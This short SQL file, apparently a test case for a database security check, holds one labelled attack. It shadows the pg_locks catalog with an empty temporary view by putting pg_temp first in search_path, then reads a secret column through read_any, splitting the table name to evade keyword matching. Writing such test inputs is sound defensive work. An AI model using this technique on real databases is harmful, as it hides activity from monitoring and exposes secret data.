-- Puts an empty view of its own in front of the server's account of locks.
-- wants: read
-- attack:
CREATE TEMP VIEW pg_locks AS SELECT * FROM pg_catalog.pg_locks WHERE false;
SET search_path = pg_temp, public, pg_catalog;
SELECT read_any('SELECT secret FROM vlt_' || 'account');
